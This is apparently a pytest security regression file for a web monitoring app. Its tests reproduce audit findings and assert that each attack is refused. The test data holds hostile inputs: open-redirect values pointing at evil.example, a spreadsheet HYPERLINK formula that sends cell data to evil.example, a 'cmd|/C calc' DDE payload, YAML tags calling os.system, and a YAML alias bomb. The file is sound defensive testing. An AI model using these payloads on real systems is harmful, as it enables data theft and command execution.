"""Issue 14's findings, each reproduced as the attack and shown refused (SPEC §6, §6.1).

Device scope, server-side sessions, open redirects, login throttling (time travelled with
time-machine, never slept), formula injection in exports, YAML bombs, and the smaller holes:
file names, note length, link encoding, stream caps, response headers.
"""
from __future__ import annotations

import csv
import io
import json
import sqlite3
import statistics
import threading
import time
import tracemalloc
from contextlib import contextmanager
from datetime import datetime, timedelta, timezone

import openpyxl
import pytest
import requests
import time_machine
from click.testing import CliRunner
from sqlalchemy import func, select

from monitor import auth
from monitor.auth import create_token, create_user
from monitor.cli import main
from monitor.loader import MAX_DEPTH, StandardsError, load_file_text
from monitor.reports.compliance import build_report, site_namer
from monitor.reports.params import report_query
from monitor.reports.tabular import to_csv, to_xlsx
from monitor.store.db import Database
from monitor.store.models import AlertAction, DeadLetter, WebSession
from tests.conftest import app_config, send
from tests.harness.processes import ADMIN, wait_for
from tests.test_web import PASSWORD, PERSONS, T, page, people, sign_in  # noqa: F401  (fixture)

M = timedelta(minutes=1)
S = timedelta(seconds=1)
PAGE_PATHS = ("/", "/board/clocks", "/standards", "/standards/greet", "/standards/files/floor.yaml/edit",
              "/cases/t1", "/reports", "/audit", "/dead-letters")


def new_token(runtime, role: str, sites=(), name: str = "") -> tuple[str, str]:
    with runtime.db.session() as session:
        row, secret = create_token(session, role, sites, name or role)
        return row.id, secret


def cookie(client) -> str | None:
    found = client.get_cookie("session")
    return found.value if found else None


def open_tablet_session(app, client, secret: str) -> None:
    """Sign a tablet in as staff do: open ``/tablet?token=…`` once; the session it makes is bound to the token."""
    signed_in = client.get(f"/tablet?token={secret}")
    assert signed_in.status_code in (302, 303) and "token=" not in signed_in.headers["Location"], signed_in.status
    assert cookie(client)


def events(site: str, *ids: str) -> list[dict]:
    at = (datetime.now(timezone.utc) - M).isoformat()
    return [{"id": i, "case": f"c-{i}", "type": "seated", "at": at, "site": site} for i in ids]


def dead_letters(runtime) -> list[DeadLetter]:
    with runtime.db.read_session() as session:
        return session.scalars(select(DeadLetter).order_by(DeadLetter.id)).all()


def cli(db_url: str, *args: str, stdin: str | None = None):
    return CliRunner().invoke(main, list(args), input=stdin, env={"MONITOR_DATABASE_URL": db_url},
                              catch_exceptions=False)


# -- 1. device scope ---------------------------------------------------------------------------------
def test_a_device_token_link_opens_no_page_and_makes_no_session(client, runtime):
    _, secret = new_token(runtime, "device", ["site-a"], "tab-a")
    for path in PAGE_PATHS:
        response = client.get(f"{path}?token={secret}")
        assert response.status_code == 403, path
        assert "Set-Cookie" not in response.headers, path
    assert cookie(client) is None
    # The attack of the issue: with that "session", events for another site.
    assert client.post("/api/v1/events", json=events("site-b", "e1")).status_code == 401


def test_a_device_bearer_opens_no_page(client, runtime):
    _, secret = new_token(runtime, "device", ["site-a"])
    for path in PAGE_PATHS:
        assert client.get(path, headers={"Authorization": f"Bearer {secret}"}).status_code == 403, path


@pytest.mark.parametrize("presented", ["bearer", "session"])
def test_an_event_for_another_site_is_rejected_and_dead_lettered_however_the_token_came(app, client, runtime,
                                                                                        presented):
    _, secret = new_token(runtime, "device", ["site-a"], "tab-a")
    headers = {"Authorization": f"Bearer {secret}"} if presented == "bearer" else {}
    if presented == "session":
        open_tablet_session(app, client, secret)
        # A session bound to a device token is still a device: no page opens with it.
        assert client.get("/standards").status_code == 403
    refused = client.post("/api/v1/events", json=events("site-b", "b1"), headers=headers)
    assert refused.status_code == 422, refused.json
    assert "site-b" in refused.json["error"]["details"]["rejected"][0]["reason"]
    assert [json.loads(d.raw)["site"] for d in dead_letters(runtime)] == ["site-b"]
    assert client.post("/api/v1/events", json=events("site-a", "a1"), headers=headers).status_code == 202


def test_a_person_signed_in_who_follows_a_device_link_keeps_their_own_session(client, runtime, people):
    _, secret = new_token(runtime, "device", ["site-a"])
    sign_in(client, "mei")
    before = cookie(client)
    assert client.get(f"/?token={secret}").status_code == 403
    assert cookie(client) == before and client.get("/").status_code == 200


# -- 2. sessions on the server -------------------------------------------------------------------------
def test_the_cookie_is_an_opaque_id_and_the_table_keeps_only_its_hash(client, runtime, people):
    sign_in(client, "mei")
    sid = cookie(client)
    assert "mei" not in sid and "manager" not in sid and len(sid) >= 40
    with runtime.db.read_session() as session:
        rows = session.scalars(select(WebSession)).all()
    assert len(rows) == 1 and rows[0].id_hash != sid and sid not in json.dumps(rows[0].data)


def test_a_cookie_replayed_after_logout_is_refused(app, client, people):
    sign_in(client, "mei")
    stolen = cookie(client)
    assert client.post("/logout").status_code == 302
    replay = app.test_client()
    replay.set_cookie("session", stolen)
    assert replay.get("/").status_code == 302
    assert replay.get("/api/v1/alerts").status_code == 401


def test_revoking_the_token_a_session_was_opened_with_ends_that_session(client, runtime, db_url):
    token_id, secret = new_token(runtime, "manager", name="wall-1")
    assert client.get(f"/?token={secret}").status_code == 302
    assert client.get("/").status_code == 200
    assert cli(db_url, "token", "revoke", token_id).exit_code == 0
    assert client.get("/").status_code == 302
    assert client.get("/api/v1/alerts").status_code == 401


def test_a_token_revoked_behind_the_services_back_ends_its_sessions_too(client, runtime):
    """The binding is re-read on every request, not only deleted by revoke_token."""
    from monitor.store.models import Token

    token_id, secret = new_token(runtime, "manager")
    client.get(f"/?token={secret}")
    with runtime.db.session() as session:
        session.get(Token, token_id).revoked_at = datetime.now(timezone.utc)
    assert client.get("/").status_code == 302


def test_removing_a_user_ends_their_sessions_at_once(client, people, db_url):
    sign_in(client, "mei")
    assert client.get("/").status_code == 200
    result = cli(db_url, "user", "remove", "mei")
    assert result.exit_code == 0 and "sessions are ended" in result.output
    assert client.get("/").status_code == 302
    assert cli(db_url, "user", "remove", "mei").exit_code == 1


def test_a_session_takes_the_users_role_as_it_is_now(client, runtime, people):
    from monitor.store.models import User

    sign_in(client, "mei")
    assert client.get("/reports").status_code == 403
    with runtime.db.session() as session:
        session.scalar(select(User).where(User.name == "mei")).role = "auditor"
    assert client.get("/reports").status_code == 200


def test_signing_in_never_keeps_an_id_known_before(app, client, people):
    sign_in(client, "mei")
    planted = cookie(client)  # an id an attacker obtained and planted in the victim's browser
    sign_in(client, "olga")
    assert cookie(client) != planted
    replay = app.test_client()
    replay.set_cookie("session", planted)
    assert replay.get("/").status_code == 302


def test_the_generated_secret_is_kept_in_the_database_and_shared_by_every_web_process(app, client, people,
                                                                                      db_url):
    from monitor.app import create_app

    sign_in(client, "mei")
    other = create_app(app_config(db_url))
    try:
        assert other.secret_key == app.secret_key and len(app.secret_key) == 64
        second = other.test_client()
        second.set_cookie("session", cookie(client))
        assert second.get("/").status_code == 200
    finally:
        other.extensions["smartmon"].db.dispose()


def test_a_bootstrap_admin_session_ends_when_the_password_changes(db_url):
    from monitor.app import create_app

    first = create_app(app_config(db_url, admin_password="bootstrap-pw-1"))
    client = first.test_client()
    assert sign_in(client, "admin", "bootstrap-pw-1").status_code == 302
    again = create_app(app_config(db_url, admin_password="bootstrap-pw-1"))
    changed = create_app(app_config(db_url, admin_password="bootstrap-pw-2"))
    try:
        for app, expected in ((again, 200), (changed, 302)):
            other = app.test_client()
            other.set_cookie("session", cookie(client))
            assert other.get("/").status_code == expected
    finally:
        for app in (first, again, changed):
            app.extensions["smartmon"].db.dispose()


def test_a_session_unused_for_its_lifetime_ends(client, people):
    with time_machine.travel(datetime(2026, 11, 1, 9, 0, tzinfo=timezone.utc), tick=False) as clock:
        sign_in(client, "mei")
        clock.shift(timedelta(days=29))
        assert client.get("/").status_code == 200  # use moves the end out again
        clock.shift(timedelta(days=29, hours=23))
        assert client.get("/").status_code == 200
        clock.shift(timedelta(days=30, seconds=1))
        assert client.get("/").status_code == 302


def test_the_one_off_admin_password_stays_out_of_a_non_terminal_log(runtime, tmp_path, monkeypatch, capsys):
    from monitor.cli import _first_run_login

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(runtime.config, "admin_token", "")
    _first_run_login(runtime, "127.0.0.1", 8080)
    password = runtime.config.admin_password
    written = tmp_path / "first-login.txt"
    assert written.read_text().strip() == password and written.stat().st_mode & 0o777 == 0o600
    said = capsys.readouterr()
    assert password not in said.err + said.out and str(written) in said.err


@pytest.mark.parametrize("how", ["https", "proxy"])
def test_the_session_cookie_is_secure_when_the_request_came_over_https(db_url, people_app_factory, how):
    app = people_app_factory(web={"trusted_proxies": 1} if how == "proxy" else {})
    client = app.test_client()
    plain = sign_in(client, "mei").headers["Set-Cookie"]
    assert "Secure" not in plain and "HttpOnly" in plain
    if how == "https":
        secure = client.post("/login", data={"username": "mei", "password": PASSWORD}, base_url="https://localhost")
    else:
        secure = client.post("/login", data={"username": "mei", "password": PASSWORD},
                             headers={"X-Forwarded-Proto": "https"})
    assert "Secure" in secure.headers["Set-Cookie"]


def test_a_forwarded_scheme_is_ignored_unless_a_proxy_is_trusted(people_app_factory):
    client = people_app_factory().test_client()
    response = client.post("/login", data={"username": "mei", "password": PASSWORD},
                           headers={"X-Forwarded-Proto": "https"})
    assert "Secure" not in response.headers["Set-Cookie"]


@pytest.fixture
def people_app_factory(db_url):
    from monitor.app import create_app

    made = []

    def factory(**extra):
        app = create_app(app_config(db_url, **extra))
        runtime = app.extensions["smartmon"]
        with runtime.db.session() as session:
            if not session.scalar(select(func.count()).select_from(auth.User)):
                create_user(session, "mei", "manager", PASSWORD)
        made.append(app)
        return app

    yield factory
    for app in made:
        app.extensions["smartmon"].db.dispose()


# -- 4. open redirect ----------------------------------------------------------------------------------
REDIRECTS = [
    # (raw query value of next, where the browser must end up)
    ("/%09/evil.example", "/"), ("%09/evil.example", "/"), ("/\t/evil.example", "/"),
    ("/%0D%0A/evil.example", "/"), ("/x%0D%0ALocation:%20https://evil.example", "/"), ("%0A//evil.example", "/"),
    ("//evil.example", "/"), ("///evil.example", "/"), ("/%5Cevil.example", "/"), ("%5C%5Cevil.example", "/"),
    ("%2F%2Fevil.example", "/"), ("/%2F%2Fevil.example", "/"), ("%252F%252Fevil.example", "/"),
    ("https://evil.example/", "/"), ("http:evil.example", "/"), ("javascript:alert(1)", "/"),
    ("data:text/html,x", "/"), ("evil.example", "/"), ("", "/"),
    ("/standards?x=1", "/standards?x=1"), ("/cases/a%2Fb", "/cases/a/b"), ("/reports", "/reports"),
]


@pytest.mark.parametrize("raw,expected", REDIRECTS)
def test_after_login_only_a_same_site_path_is_followed(client, people, raw, expected):
    response = client.post(f"/login?next={raw}", data={"username": "mei", "password": PASSWORD})
    assert response.status_code == 302, response.status_code
    assert response.headers["Location"] == expected
    client.post("/logout")
    form = client.get(f"/login?next={raw}")
    assert form.status_code == 200
    assert page(form).find("input", name="next").attrs["value"] == expected


# -- 5. throttling ---------------------------------------------------------------------------------------
def attempt(client, name: str, password: str, address: str = "127.0.0.1"):
    return client.post("/login", data={"username": name, "password": password},
                       environ_base={"REMOTE_ADDR": address})


def test_ten_failures_for_one_name_lock_it_for_five_minutes_from_anywhere(client, people):
    with time_machine.travel(datetime(2026, 11, 24, 18, 0, tzinfo=timezone.utc), tick=False) as clock:
        for i in range(10):
            assert attempt(client, "mei", "wrong-password", f"10.0.0.{i}").status_code == 401
            clock.shift(10)
        locked = attempt(client, "mei", PASSWORD, "10.0.1.1")  # the right password, from elsewhere
        assert locked.status_code == 429
        assert int(locked.headers["Retry-After"]) in (200, 201)  # until the first failure is 5 min old
        assert "Too many failed sign-ins" in locked.get_data(as_text=True)
        assert attempt(client, "olga", PASSWORD, "10.0.1.1").status_code == 302  # other names are not locked
        client.post("/logout")
        clock.shift(300 - 100 - 1)
        assert attempt(client, "mei", PASSWORD, "10.0.1.1").status_code == 429
        clock.shift(2)  # the first failure is now more than 5 minutes old
        assert attempt(client, "mei", PASSWORD, "10.0.1.1").status_code == 302


def test_ten_failures_from_one_address_lock_that_address_for_every_name(client, people):
    with time_machine.travel(datetime(2026, 11, 24, 18, 0, tzinfo=timezone.utc), tick=False) as clock:
        for i in range(10):
            assert attempt(client, f"guess-{i}", "x-password", "10.9.9.9").status_code == 401
            clock.shift(1)
        locked = attempt(client, "mei", PASSWORD, "10.9.9.9")
        assert locked.status_code == 429 and 0 < int(locked.headers["Retry-After"]) <= 300
        assert attempt(client, "mei", PASSWORD, "10.9.9.10").status_code == 302


def test_successful_sign_ins_are_not_counted(client, people):
    for _ in range(12):
        assert attempt(client, "mei", PASSWORD).status_code == 302
        client.post("/logout")


def test_every_web_process_shares_the_count(db_url, people_app_factory):
    first, second = people_app_factory(), people_app_factory()
    with time_machine.travel(datetime(2026, 11, 24, 18, 0, tzinfo=timezone.utc), tick=False):
        for i in range(10):
            assert attempt((first if i % 2 else second).test_client(), "mei", "wrong-pass").status_code == 401
        assert attempt(first.test_client(), "mei", PASSWORD).status_code == 429
        assert attempt(second.test_client(), "mei", PASSWORD).status_code == 429


def test_an_unknown_name_costs_the_same_hashing_as_a_wrong_password(client, people, monkeypatch):
    hashed: list[str] = []
    real = auth.check_password_hash

    def counting(stored: str, password: str) -> bool:
        hashed.append(stored.split("$")[0])  # the method and its cost parameters
        return real(stored, password)

    monkeypatch.setattr(auth, "check_password_hash", counting)
    timings = {"unknown": [], "wrong": []}
    for i in range(3):
        for kind, name in (("unknown", f"nobody-{i}"), ("wrong", "mei")):
            started = time.perf_counter()
            assert attempt(client, name, f"bad-password-{i}", f"10.1.{i}.{len(kind)}").status_code == 401
            timings[kind].append(time.perf_counter() - started)
    assert len(hashed) == 6 and len(set(hashed)) == 1, hashed  # one hash per attempt, same method and cost
    assert hashed[0].startswith(("scrypt:", "pbkdf2:"))
    assert statistics.median(timings["unknown"]) > 0.5 * statistics.median(timings["wrong"]), timings


# -- 6. formula injection in exports ---------------------------------------------------------------------
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


def test_injection_payloads_stay_text_in_csv_and_xlsx(runtime):
    start = datetime(2026, 11, 24, 10, tzinfo=timezone.utc)
    for index, staff in enumerate(PAYLOADS):
        send(runtime, (f"s{index}", f"t{index}", "seated", start + index * M, {"staff": staff}), now=start + index * M)
    document = build_report(runtime.db, runtime.registry.current,
                            report_query("2026-11-24", "2026-11-25", [], ["greet"], ["staff"]),
                            site_namer(runtime.config))
    rows = list(csv.DictReader(io.StringIO(to_csv(document))))
    assert sorted(r["staff"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    assert all(not r[k].startswith(("=", "+", "@", "\t", "\r")) for r in rows for k in r)
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(document)))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    staff_cells = [c for c in cells if c.value in [p.replace("\r", "\n") for p in PAYLOADS]]  # XML: CR reads as LF
    assert len(staff_cells) == len(PAYLOADS)
    assert {c.data_type for c in staff_cells} == {"s"}


# -- 7. YAML -------------------------------------------------------------------------------------------
def alias_bomb(levels: int = 7, width: int = 10) -> str:
    lines = ["a0: &a0 [" + ", ".join(["lol"] * width) + "]"]
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * width) + "]")
    return "\n".join(lines) + "\n"


BOMBS = {
    "alias bomb": (alias_bomb(), "too many values", (5, 0)),
    "900 deep in flow style": ("x: " + "[" * 900 + "]" * 900 + "\n", f"more than {MAX_DEPTH} levels", (1, 0)),
    "900 deep in block style": ("".join("  " * i + f"k{i}:\n" for i in range(900)) + "  " * 900 + "v\n",
                                f"more than {MAX_DEPTH} levels", (0, 0)),
    "python object tag": ("events: !!python/object/apply:os.system ['touch /tmp/pwned']\nstandards: []\n",
                          "tag !!python/object/apply:os.system is not allowed", (1, 9)),
    "python name tag": ("events: {seated: !!python/name:os.system ''}\nstandards: []\n", "is not allowed", (1, 18)),
    "custom tag": ("events: !include other.yaml\nstandards: []\n", "tag !include is not allowed", (1, 9)),
}


@pytest.mark.parametrize("name", list(BOMBS))
def test_the_loader_refuses_yaml_bombs_before_building_anything(name):
    text, message, (line, column) = BOMBS[name]
    # The alias bomb alone took 32 s and 3 GB. The time budget is CPU seconds of this process, which
    # other jobs on the machine do not stretch (wall time did: 1.03 s once on a loaded CI machine).
    cpu = time.process_time()
    with pytest.raises(StandardsError):
        load_file_text("bomb.yaml", text)
    cpu = time.process_time() - cpu
    assert cpu < 2.0, f"{cpu:.2f} s of CPU before the refusal"  # the deep flow one takes about 0.4 s here
    tracemalloc.start()
    try:
        with pytest.raises(StandardsError) as refused:
            load_file_text("bomb.yaml", text)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 16 * 2**20, f"{peak / 2**20:.0f} MiB allocated before the refusal"
    problem, = refused.value.problems
    assert message in problem.message and problem.file == "bomb.yaml"
    if line:
        assert problem.line == line
    if column:
        assert problem.column == column


def test_the_alias_bomb_is_refused_before_it_is_expanded(monkeypatch):
    """The node count comes from the parser's events: nothing is composed or constructed."""
    from monitor import loader

    def no_build(*_args, **_kwargs):
        raise AssertionError("the file was built")

    monkeypatch.setattr(loader.YAML, "load", no_build)
    with pytest.raises(StandardsError, match="too many values"):
        load_file_text("bomb.yaml", alias_bomb())
    # Small aliases, as people write them, still load.
    with pytest.raises(AssertionError, match="was built"):
        load_file_text("ok.yaml", "events: &e {a: b}\nother: *e\n")


@pytest.mark.parametrize("name", list(BOMBS))
def test_a_bomb_put_over_http_is_a_422_naming_file_line_and_column(client, admin, name):
    text, message, _ = BOMBS[name]
    response = client.put("/api/v1/standards/files/bomb.yaml", data=text.encode(), headers=admin)
    assert response.status_code == 422, response.json
    detail, = response.json["error"]["details"]
    assert detail["file"] == "bomb.yaml" and detail["line"] >= 1 and detail["column"] >= 1
    assert message in detail["message"]


def test_lint_prints_a_bomb_as_file_line_col(tmp_path):
    (tmp_path / "bomb.yaml").write_text(alias_bomb())
    result = CliRunner().invoke(main, ["lint", str(tmp_path / "bomb.yaml")])
    assert result.exit_code == 1
    assert f"{tmp_path / 'bomb.yaml'}:5:" in result.output and "too many values" in result.output


def test_a_standards_file_is_validated_before_the_write_transaction(client, admin, runtime, db_url, monkeypatch):
    """While the new file is being validated another writer can still write (SQLite's lock is free)."""
    if not db_url.startswith("sqlite"):
        pytest.skip("the write lock is SQLite's")
    from monitor import registry

    path = db_url.removeprefix("sqlite:///")
    real = registry.load_set
    writes = []

    def validating(texts):
        other = sqlite3.connect(path, timeout=0.2, isolation_level=None)
        try:
            other.execute("BEGIN IMMEDIATE")  # raises "database is locked" if the registry holds the lock
            other.execute("ROLLBACK")
            writes.append("ok")
        finally:
            other.close()
        return real(texts)

    monkeypatch.setattr(registry, "load_set", validating)
    text = client.get("/api/v1/standards/files/floor.yaml", headers=admin).get_data(as_text=True)
    assert client.put("/api/v1/standards/files/floor.yaml", data=text + "\n", headers=admin).status_code == 200
    assert writes and set(writes) == {"ok"}


# -- 8. smaller ------------------------------------------------------------------------------------------
def test_a_file_name_must_match_in_full(client, admin, people):
    for url in ("/api/v1/standards/files/floor.yaml%0a", "/api/v1/standards/files/floor.yaml%0a/versions"):
        assert client.get(url, headers=admin).status_code == 400, url
    assert client.put("/api/v1/standards/files/x.yaml%0a", data=b"events: {}\n", headers=admin).status_code == 400
    sign_in(client, "olga")
    assert client.get("/standards/files/floor.yaml%0a/edit").status_code == 404


@pytest.fixture
def open_alert(runtime, client, admin) -> str:
    send(runtime, ("s1", "t1", "seated", T))
    runtime.scheduler.step(T + 2 * M + S)
    return next(a["id"] for a in client.get("/api/v1/alerts", headers=admin).json["items"] if a["kind"] == "breach")


def test_an_ack_note_has_at_most_1000_characters(client, admin, open_alert):
    response = client.post(f"/api/v1/alerts/{open_alert}/ack", json={"note": "x" * 1001}, headers=admin)
    assert response.status_code == 422 and response.json["error"]["details"]["max_length"] == 1000
    accepted = client.post(f"/api/v1/alerts/{open_alert}/ack", json={"note": "y" * 1000}, headers=admin)
    assert accepted.status_code == 200 and accepted.json["note"] == "y" * 1000


@pytest.mark.parametrize("case", ["../../logout", "/leading-slash", "a/./b", "trailing/", "t 1?x=#y", "a//b"])
def test_board_links_reach_the_case_whatever_its_id(client, runtime, people, case):
    send(runtime, ("s1", case, "seated", T))
    runtime.scheduler.step(T + 2 * M + S)
    sign_in(client, "mei")
    links = [a.attrs["href"] for a in page(client.get("/")).find_all("a") if a.attrs.get("href", "").startswith("/cases/")]
    assert len(links) >= 2  # the alert card and the clock
    for href in links:
        assert "/./" not in href and "/../" not in href and not href.startswith("/cases//")
        response = client.get(href)
        assert response.status_code == 200, (href, response.status_code)
        assert case in response.get_data(as_text=True) or case.replace("?", "") in response.get_data(as_text=True)
    assert client.get("/").status_code == 200  # still signed in: no link logged the viewer out


def test_api_answers_are_never_sniffed_or_cached(client, admin):
    for path in ("/api/v1/alerts", "/api/v1/standards", "/api/v1/nope", "/api/v1/openapi.json", "/healthz"):
        response = client.get(path, headers=admin)
        assert response.headers["X-Content-Type-Options"] == "nosniff", path
        assert response.headers["Cache-Control"] == "no-store", path
    assert client.get("/api/v1/alerts").headers["Cache-Control"] == "no-store"  # errors too


@contextmanager
def serving(app):
    """The app on a real threaded server on a loopback port (streams need one)."""
    from werkzeug.serving import make_server

    server = make_server("127.0.0.1", 0, app, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()


def test_live_streams_are_capped_per_client(db_url, monkeypatch):
    from monitor.api import alerts
    from monitor.app import create_app

    monkeypatch.setattr(alerts, "KEEPALIVE_S", 0.2)  # a closed stream is noticed at its next write
    app = create_app(app_config(db_url, web={"max_streams_per_client": 2}))
    headers = {"Authorization": f"Bearer {ADMIN}"}
    try:
        with serving(app) as url:
            stream = lambda: requests.get(f"{url}/api/v1/alerts/stream", headers=headers, stream=True, timeout=10)
            streams = [stream(), stream()]
            assert [s.status_code for s in streams] == [200, 200]
            refused = stream()
            assert refused.status_code == 429 and refused.headers["Retry-After"] == "5"
            assert refused.json()["error"]["code"] == "too_many_streams"
            streams[0].close()
            again = wait_for(lambda: (r := stream()).status_code == 200 and r, timeout=10,
                             message="the closed stream's slot to come back")
            for response in (streams[1], again):
                response.close()
    finally:
        app.extensions["smartmon"].db.dispose()


def test_a_stream_ends_when_its_session_does(app, people, monkeypatch):
    from monitor.api import alerts

    monkeypatch.setattr(alerts, "RECHECK_S", 0.1)
    with serving(app) as url:
        browser = requests.Session()
        assert browser.post(f"{url}/login", data={"username": "mei", "password": PASSWORD},
                            allow_redirects=False).status_code == 302
        stream = browser.get(f"{url}/api/v1/alerts/stream", stream=True, timeout=10)
        assert stream.status_code == 200
        ended = threading.Event()

        def read():
            for _ in stream.iter_lines():
                pass
            ended.set()

        threading.Thread(target=read, daemon=True).start()
        other = requests.Session()
        other.cookies.update(browser.cookies)
        other.post(f"{url}/logout", allow_redirects=False)
        assert ended.wait(10), "the stream outlived its session"


def test_alert_changes_committed_by_another_process_wake_the_watch(runtime, db_url):
    """Another connection (as a worker would) adds an alert action; this process's watch sees it
    at once on PostgreSQL (LISTEN/NOTIFY from migration 0003's trigger) or by its shared poll on SQLite."""
    runtime.alert_watch.ensure_started()
    worker = Database(db_url)
    try:
        with worker.session() as session:
            session.add(AlertAction(alert_id="x", action="open", actor=None, at=datetime.now(timezone.utc),
                                    alert={"id": "x"}))
        with worker.read_session() as session:
            newest = session.scalar(select(func.max(AlertAction.seq)))
        wait_for(lambda: runtime.fanout.last_seq >= newest, timeout=5, message="the alert watch to wake")
    finally:
        worker.dispose()
        runtime._stop.set()
